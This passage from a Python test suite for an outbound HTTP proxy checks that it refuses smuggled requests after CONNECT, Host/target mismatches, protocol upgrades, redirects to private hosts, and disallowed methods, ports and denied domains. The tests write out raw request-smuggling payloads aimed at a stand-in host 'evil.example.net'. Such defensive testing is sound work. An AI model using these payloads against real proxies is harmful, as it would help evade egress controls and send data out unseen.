        """Sent before the answer, they are the tunnel's: no other request."""
        got = w.probe("""
out = raw(b"CONNECT ok.example.com:443 HTTP/1.1\\r\\nHost: ok.example.com\\r\\n"
    b"\\r\\nGET http://evil.example.net/ok HTTP/1.1\\r\\n\\r\\n", seconds=5)
s, r = connect("ok.example.com", first=hello(sni(b"ok.example.com")))
s.settimeout(5)
[out[0], (r["body"] + s.recv(1).decode("latin-1"))[:1]]""")
        self.assertNotIn("ok from", got[0])
        self.assertEqual(got[1], "\x16")
        self.assertEqual(net.requests(), [])

    def test_052_host_and_target(self):
        got = w.probe("""
out = []
for target, host in (("http://ok.example.com/ok", "evil.example.net"),
        ("http://evil.example.net/ok", "ok.example.com"),
        ("http://ok.example.com/ok", "ok.example.com:8080")):
    out.append(ask("GET %s HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close"
        "\\r\\n\\r\\n" % (target, host))["status"])
out""")
        self.assertIn(got[0], (400, 403))
        self.assertIn(got[1], (400, 403))
        self.assertIn(got[2], (400, 403))
        self.nothing_came()

    def test_052_upgrades(self):
        """What follows an upgrade would be looked at by nobody."""
        got = w.probe("""
out = []
for what in ("h2c", "websocket", "TLS/1.0"):
    s = socket.create_connection(PROXY, timeout=10)
    s.sendall(("GET http://ok.example.com/upgrade HTTP/1.1\\r\\n"
        "Host: ok.example.com\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\n"
        "Upgrade: %s\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n\\r\\n"
        % what).encode())
    data = head_of(s)
    try:
        s.sendall(b"GET /ok HTTP/1.1\\r\\nHost: evil.example.net\\r\\n\\r\\n")
        data += read_all(s)[0]
    except OSError:
        pass
    out.append(data.decode("latin-1"))
    s.close()
out.append(raw(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n", seconds=10)[0])
out""")
        for text in got:
            self.assertNotIn(" 101 ", text)
            self.assertNotIn("evil", text)
        for c in net.connections():
            self.assertNotIn("upgrade:", c["raw"].lower())
            self.assertNotIn("evil", c["raw"])

    def test_052_redirects_are_the_clients(self):
        """Each is a request of its own: the one to a private host fails."""
        path = "/to/" + b"http://lo.example.com:80/ok".hex()
        got = w.probe("""
first = get("http://ok.example.com%s")
[first["status"], get(first["headers"]["location"])]""" % path)
        self.assertEqual(got[0], 302)
        self.refused(got[1], "address", "lo.example.com")

    def test_052_answers_that_nobody_asked_for(self):
        got = w.probe("""
[raw(b"GET http://ok.example.com/%s HTTP/1.1\\r\\nHost: ok.example.com\\r\\n"
 b"Connection: close\\r\\n\\r\\n" % p, seconds=10)[0] for p in
 (b"extra", b"twice")]""")
        self.assertEqual(got[0].count("HTTP/1.1 200"), 1, got[0])
        self.assertNotIn("two", got[0])
        self.assertRegex(got[1], "^HTTP/1.1 502 ")

    def test_052_methods(self):
        """Plain HTTP reads; what writes needs a rule, or a human."""
        got = w.probe("""
out = {}
for m in ("GET", "HEAD", "OPTIONS", "POST", "PUT", "DELETE", "PATCH",
        "TRACE", "PROPFIND"):
    out[m] = get("http://ok.example.com/echo", m,
        "Content-Length: 0\\r\\n" if m not in ("GET", "HEAD") else "")
out["posts"] = [get("http://posts.example.com/echo", m,
    "Content-Length: 0\\r\\n")["status"] for m in ("POST", "PUT")]
out""")
        for m in ("GET", "HEAD", "OPTIONS"):
            self.assertEqual(got[m]["status"], 200, m)
        for m in ("POST", "PUT", "DELETE", "PATCH", "PROPFIND"):
            self.refused(got[m], "method", "ok.example.com")
        self.assertNotEqual(got["TRACE"]["status"], 200)
        self.assertEqual(got["posts"], [200, 403])
        self.assertLessEqual({r[1] for r in net.requests()},
                             {"GET", "HEAD", "OPTIONS", "POST"})
        self.assertEqual({r[2] for r in net.requests() if r[1] == "POST"},
                         {"posts.example.com"})

    def test_053_ports(self):
        got = w.probe("""
out = {}
for host in ("ok.example.com", "ssh.example.com"):
    out[host] = [[p, tunnel(host, p)["status"], socks_number(host, p)]
        for p in (22, 25, 80, 443, 3128, 6379, 8080, 1, 65535)]
    out[host].append([8080, get("http://%s:8080/ok" % host)["status"], 2])
s, r = connect("ssh.example.com", 22)
out["banner"] = s.recv(100).decode()
out""")
        for p, status, socks in got["ok.example.com"]:
            self.assertEqual((status, socks), (200, 0) if p in (80, 443)
                             else (403, 2), p)
        for p, status, socks in got["ssh.example.com"]:
            self.assertEqual((status, socks), (200, 0) if p == 22
                             else (403, 2), p)
        self.assertEqual(got["banner"], "SSH-2.0-there\r\n")
        self.assertLessEqual({c["port"] for c in net.connections()},
                             {22, 80, 443})

    def test_053_deny_wins(self):
        got = w.probe("""
[tunnel("bad.sub.example.com"), tunnel("a.sub.example.com"),
 tunnel("x.bad.sub.example.com")]""")
        self.refused(got[0], "denied", "bad.sub.example.com")
        # which line it was, so that it can be found
        self.assertRegex(got[0]["json"]["rule"], r"myelin\.conf:\d+$")
        self.assertEqual(got[1]["status"], 200)
        self.assertNotEqual(got[2]["status"], 400)


if __name__ == "__main__":
    unittest.main()
